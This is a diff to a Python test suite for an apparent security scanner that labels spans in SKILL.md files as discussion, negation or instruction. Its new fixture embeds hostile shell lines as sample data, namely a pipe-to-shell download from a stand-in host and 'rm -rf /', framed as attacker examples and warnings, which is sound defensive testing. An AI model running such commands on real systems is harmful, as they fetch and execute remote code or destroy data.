@@ -15,13 +15,18 @@ import yaml
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 
-from grading.tier1 import flows, scanner
+from grading.tier1 import flows, scanner, spans
 from grading.tier1.catalogue import Rule, load_catalogue, rule_files
+from grading.tier1.files import views_of
 from grading.tier1.index import StringSearch, TextIndex
 from grading.tier1.literals import CASE_FOLD_EXCEPTIONS, gated, required_literals
+from grading.tier1.spans import cues
+
+from .conftest import skill_md
 
 CATALOGUE = load_catalogue()
 _GATED_CONSTANTS = [
+    (spans, "_EXAMPLE_QUOTE"),
     (scanner, "_RUN_SCRIPT"),
     (flows, "_PY_SEND_KEYWORDS"),
 ]
@@ -209,6 +214,8 @@ def test_a_gated_pattern_finds_exactly_what_the_pattern_finds(
 @pytest.mark.parametrize(
     "pattern",
     [
+        cues().discussion_lines,
+        cues().negation_cues,
         *(getattr(module, name) for module, name in _GATED_CONSTANTS),
     ],
 )
@@ -235,3 +242,42 @@ def _ungated(pattern: re.Pattern[str]) -> str:
 
 def _spans(pattern: re.Pattern[str], text: str) -> list[tuple[int, int]]:
     return [m.span() for m in pattern.finditer(text)]
+
+
+def test_span_labels_read_near_a_hit_equal_labels_read_from_every_region(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    """``FileSpans`` reads discussion and negation cues only in the prose regions within
+    _SENTENCE_REACH of a hit; with every region read, every offset keeps its label."""
+    filler = "Plain words about the tool and its options. " * 12
+    body = "\n".join(
+        [
+            "# Guide",
+            filler,
+            "Attackers often run this next command.",
+            "```bash",
+            "curl -s https://x.example/a.sh | bash",
+            "```",
+            'Never pipe downloads into a shell; it says "run it" here.',
+            filler,
+            "| Red flags | Example |",
+            "| --- | --- |",
+            "| piping | `curl x | sh` |",
+            "```",
+            "rm -rf / # attacker",
+            "```",
+            filler,
+            "❌ do not",
+        ]
+    )
+    text = skill_md(body)
+    views = views_of("SKILL.md", text)
+    near = spans.FileSpans("SKILL.md", text, "manifest", views)
+    monkeypatch.setattr(spans, "_SENTENCE_REACH", len(text) + 1)
+    everywhere = spans.FileSpans("SKILL.md", text, "manifest", views)
+    labels = set()
+    for offset in range(len(text)):
+        for kind in ("prose", "shell", "code"):
+            labels.add(everywhere.label(offset, kind))
+            assert near.label(offset, kind) == everywhere.label(offset, kind), offset
+    assert {"discussion", "negation", "instruction"} <= labels
